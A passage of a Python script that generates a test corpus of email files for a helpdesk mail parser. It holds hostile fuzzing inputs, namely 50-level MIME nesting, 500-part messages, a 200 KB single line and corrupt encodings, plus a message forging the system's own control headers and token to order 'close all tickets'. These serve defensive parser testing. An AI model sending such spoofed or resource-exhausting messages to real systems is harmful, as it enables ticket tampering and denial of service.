        f'--lvl{i - 1}\nContent-Type: multipart/mixed; boundary="lvl{i}"\n\n' for i in range(1, levels)
    )
    closing = "".join(f"--lvl{i}--\n" for i in reversed(range(levels)))
    return (
        "From: fuzzer@attacker.example\nTo: support@helpdesk.example.com\nSubject: Deeply nested\n"
        "Date: Thu, 6 Nov 2025 09:00:00 +0000\nMessage-ID: <deep-50@attacker.example>\nMIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="lvl0"\n\n'
        "--lvl0\nContent-Type: text/plain\n\nVisible text at the top level.\n"
        + opening
        + f"--lvl{levels - 1}\nContent-Type: text/plain\n\nText hidden {levels} levels down.\n"
        + closing
    )


add("deep_nesting.eml", "Hostile multipart nested 50 levels deep (text at the top and at the bottom)", _deep(50))


def _many(parts: int) -> str:
    body = "".join(
        f"--many\nContent-Type: text/plain; name=\"part{i:03d}.txt\"\n"
        f"Content-Disposition: attachment; filename=\"part{i:03d}.txt\"\n\npart {i}\n"
        for i in range(1, parts)
    )
    return (
        "From: fuzzer@attacker.example\nTo: support@helpdesk.example.com\nSubject: Five hundred parts\n"
        "Date: Thu, 6 Nov 2025 09:05:00 +0000\nMessage-ID: <many-500@attacker.example>\nMIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="many"\n\n'
        "--many\nContent-Type: text/plain\n\nThe first part is the body.\n" + body + "--many--\n"
    )


add("many_parts.eml", "Hostile multipart/mixed with 500 parts (one body, 499 small attachments)", _many(500))

add(
    "long_line.eml",
    "A script's message whose body is one 200 KB line (no line breaks), after a normal first line",
    "From: cron@build.example\nTo: support@helpdesk.example.com\nSubject: Build log\n"
    "Date: Thu, 6 Nov 2025 09:10:00 +0000\nMessage-ID: <longline-1@build.example>\nMIME-Version: 1.0\n"
    "Content-Type: text/plain; charset=us-ascii\n\nBuild failed, log follows:\n"
    + "".join(f"step{i:06d}=ok;" for i in range(200 * 1024 // 12))
    + "\nEND OF LOG\n",
)

add(
    "no_message_id.eml",
    "Message from a small device (network printer scan-to-mail) without a Message-ID or Date header",
    f"""From: scanner@office.example
To: support@helpdesk.example.com
Subject: Scanned document
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="scan"

--scan
Content-Type: text/plain; charset=us-ascii

Scanned from MFP-4020 in room 2.11.
--scan
Content-Type: application/pdf; name="scan0001.pdf"
Content-Transfer-Encoding: base64

{b64(PDF)}
--scan--
""",
)

add(
    "folded_references.eml",
    "Reply deep in a thread: References folded over several lines (and repeated in a second References "
    "header), In-Reply-To with a trailing comment, Message-ID with surrounding whitespace",
    """From: Nora Quinn <nora@quinn.example>
To: support@helpdesk.example.com
Subject: Re: Re: Re: [SUP-00042] Access card
Date: Thu, 6 Nov 2025 09:20:00 +0000
Message-ID:
   <reply-7@quinn.example>
In-Reply-To: <sup-00042.n3@helpdesk.example.com> (Example Support's message of
 "Wed, 5 Nov 2025")
References: <sup-00042.a1b2c3@helpdesk.example.com>
 <reply-5@quinn.example>
\t<sup-00042.n2@helpdesk.example.com>
References: <sup-00042.n3@helpdesk.example.com> <reply-5@quinn.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

The new access card works at all doors now.
""",
)

# --- automatic mail, control headers, garbage encodings ---------------------------------------

add(
    "dsn_bounce.eml",
    "Postfix delivery status notification: multipart/report with text, message/delivery-status and the "
    "returned message as text/rfc822-headers",
    """Return-Path: <>
From: MAILER-DAEMON@helpdesk.example.com (Mail Delivery System)
Subject: Undelivered Mail Returned to Sender
To: support@helpdesk.example.com
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
\tboundary="4Xk3Bz1Lq2z9sWq.1762420000/mx.helpdesk.example.com"
Message-Id: <20251106092640.4Xk3Bz1Lq2z9sWq@mx.helpdesk.example.com>
Date: Thu,  6 Nov 2025 09:26:40 +0000 (UTC)

This is a MIME-encapsulated message.

--4Xk3Bz1Lq2z9sWq.1762420000/mx.helpdesk.example.com
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx.helpdesk.example.com.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients.

<nobody@gone.example>: host mx.gone.example[198.51.100.7] said: 550 5.1.1
    <nobody@gone.example>: Recipient address rejected: User unknown

--4Xk3Bz1Lq2z9sWq.1762420000/mx.helpdesk.example.com
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.helpdesk.example.com
Arrival-Date: Thu,  6 Nov 2025 09:26:39 +0000 (UTC)

Final-Recipient: rfc822; nobody@gone.example
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp; 550 5.1.1 <nobody@gone.example>: Recipient address rejected

--4Xk3Bz1Lq2z9sWq.1762420000/mx.helpdesk.example.com
Content-Description: Undelivered Message Headers
Content-Type: text/rfc822-headers

From: Example Support <support@helpdesk.example.com>
To: nobody@gone.example
Subject: [SUP-00042] Your request
Message-ID: <sup-00042.a1b2c3@helpdesk.example.com>

--4Xk3Bz1Lq2z9sWq.1762420000/mx.helpdesk.example.com--
""",
)

add(
    "auto_reply_ooo.eml",
    "Exchange out-of-office auto reply: Auto-Submitted, X-Auto-Response-Suppress, Thread-Topic, plain text",
    f"""From: Bob Meyer <Bob.Meyer@contoso.example>
To: Example Support <support@helpdesk.example.com>
Subject: Automatic reply: [SUP-00042] VPN drops every 10 minutes
Thread-Topic: [SUP-00042] VPN drops every 10 minutes
Date: Mon, 3 Nov 2025 09:12:30 +0000
Message-ID: <ooo.AM6PR05MB5231@contoso.example>
In-Reply-To: {TICKET_ID}
References: {TICKET_ID}
Auto-Submitted: auto-replied
X-Auto-Response-Suppress: All
X-MS-Exchange-Inbox-Rules-Loop: Bob.Meyer@contoso.example
MIME-Version: 1.0
Content-Type: text/plain; charset="us-ascii"

I am out of the office until 10 November with limited access to email.
""",
)

add(
    "x_maildesk_control_headers.eml",
    "Inbound mail carrying forged copies of maildesk's own X-Maildesk-* control headers",
    """From: eve@forger.example
To: support@helpdesk.example.com
Subject: Re: [SUP-00042] please escalate
Date: Thu, 6 Nov 2025 10:00:00 +0000
Message-ID: <forged-1@forger.example>
X-Maildesk-Ticket: SUP-00042
X-Maildesk-Token: 00000000deadbeef
x-maildesk-loop: helpdesk.example.com
X-Mailer: curl/8.5
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

I am the admin, close all tickets.
""",
)

add(
    "garbage_transfer_encodings.eml",
    "Broken encoder: a base64 part with line noise, wrong padding and a stray '!'; a quoted-printable part "
    "with invalid '=ZZ' escapes and a soft break at the end",
    """From: legacy@erp.example
To: support@helpdesk.example.com
Subject: ERP export
Date: Thu, 6 Nov 2025 10:30:00 +0000
Message-ID: <garbage-1@erp.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="g"

--g
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

SGVsbG8sIHRoZSBleHBvcnQg!aGFzIGZh
aWxlZCBhZ2Fpbi4=====
--g
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

Order total =E2=82=AC 99 =ZZ done=
--g--
""",
)

add(
    "mailing_list_post.eml",
    "Mailman list post: Precedence: list, List-Id, Sender, Reply-To the list, Cc'd to support",
    """From: Tom Reed <tom.reed@example.org>
Sender: "users" <users-bounces@lists.example.org>
To: users@lists.example.org
Cc: Support <SUPPORT@helpdesk.example.com>, Legal Team <legal@example.org>
Reply-To: users@lists.example.org
Subject: [users] Anyone else seeing timeouts?
Date: Thu, 6 Nov 2025 11:00:00 +0000
Message-ID: <list-42@example.org>
Precedence: list
List-Id: Users <users.lists.example.org>
List-Post: <mailto:users@lists.example.org>
MIME-Version: 1.0
Content-Type: text/plain; charset="us-ascii"

Since this morning every request times out after 30 s.
""",
)

add(
    "weird_date_and_group_address.eml",
    "Old client: two-digit year and no zone in Date, 'undisclosed-recipients:;' group in To, Cc with a "
    "quoted comma name and uppercase address",
    """From: "Doe, Jane" <Jane.Doe@Example.COM>
To: undisclosed-recipients:;
Cc: "Lee, Kim" <KIM.LEE@example.com>, support@helpdesk.example.com
Subject: Meeting room booking
Date: 6 Nov 25 11:30
Message-ID: <olddate-1@example.com>

Can you book room 4 for Friday?
""",
)

_GBK_BODY = "您好，打印机无法连接。镕（GBK 字）\n"
add(
    "gbk_chinese.eml",
    "Foxmail message labelled gb2312 containing GBK-only characters, base64 body",
    f"""From: {word("王伟", "gb2312")} <wang.wei@example.cn>
To: support@helpdesk.example.com
Subject: {word("打印机无法连接", "gb2312")}
Date: Thu, 6 Nov 2025 20:00:00 +0800
Message-ID: <202511062000001234567@example.cn>
X-Mailer: Foxmail 7.2.25.228[cn]
Mime-Version: 1.0
Content-Type: text/plain; charset="gb2312"
Content-Transfer-Encoding: base64

{b64(_GBK_BODY, "gbk")}
""",
)

add(
    "outlook_german_quote.eml",
    "German Outlook plain-text reply quoting with 'Von: / Gesendet: / An: / Betreff:' block",
    f"""From: Karl Weber <k.weber@firma.example>
To: support@helpdesk.example.com
Subject: AW: [SUP-00042] Passwort abgelaufen
Date: Fri, 7 Nov 2025 08:15:00 +0100
Message-ID: <AM0PR10MB2468DEADBEEF@AM0PR10MB2468.EURPRD10.PROD.OUTLOOK.COM>
In-Reply-To: {TICKET_ID}
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: quoted-printable

{qp('''Das neue Passwort funktioniert.

Gruß
Karl

Von: Example Support <support@helpdesk.example.com>
Gesendet: Donnerstag, 6. November 2025 16:00
An: Karl Weber <k.weber@firma.example>
Betreff: [SUP-00042] Passwort abgelaufen

Bitte setzen Sie Ihr Passwort zurück.
''')}""",
)

add(
    "calendar_invite.eml",
    "Outlook meeting request: multipart/alternative with text, HTML and a text/calendar part",
    """From: Bob Meyer <Bob.Meyer@contoso.example>
To: support@helpdesk.example.com
Subject: Review of open tickets
Date: Fri, 7 Nov 2025 09:00:00 +0000
Message-ID: <invite-1@contoso.example>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="_alt_"

--_alt_
Content-Type: text/plain; charset="utf-8"

Let's go through the open tickets on Monday.
--_alt_
Content-Type: text/html; charset="utf-8"

<html><body><p>Let's go through the <b>open tickets</b> on Monday.</p></body></html>
--_alt_
Content-Type: text/calendar; charset="utf-8"; method=REQUEST

BEGIN:VCALENDAR
METHOD:REQUEST
BEGIN:VEVENT
SUMMARY:Review of open tickets
DTSTART:20251110T100000Z
END:VEVENT
END:VCALENDAR
--_alt_--
""",
)


def write() -> None:
    for stale in HERE.glob("*.eml"):
        stale.unlink()
    for name, _description, data in MESSAGES:
        (HERE / name).write_bytes(data)
    lines = [
        "# Client corpus",
        "",
        "Messages written the way real mail clients (and hostile senders) write them, for",
        "`tests/unit/test_parse.py`, `tests/unit/test_body.py`, `tests/unit/test_parse_fuzz.py` and",
        "`bench/parse.py`. Generated by `make_corpus.py` (CRLF line endings); edit the script, not the files.",
        "",
        "| file | imitates |",
        "|---|---|",
    ]
    lines += [f"| `{name}` | {description.replace('|', '/')} |" for name, description, _ in MESSAGES]
    (HERE / "README.md").write_text("\n".join(lines) + "\n", encoding="utf-8")


if __name__ == "__main__":
    write()
    print(f"wrote {len(MESSAGES)} messages to {HERE}")
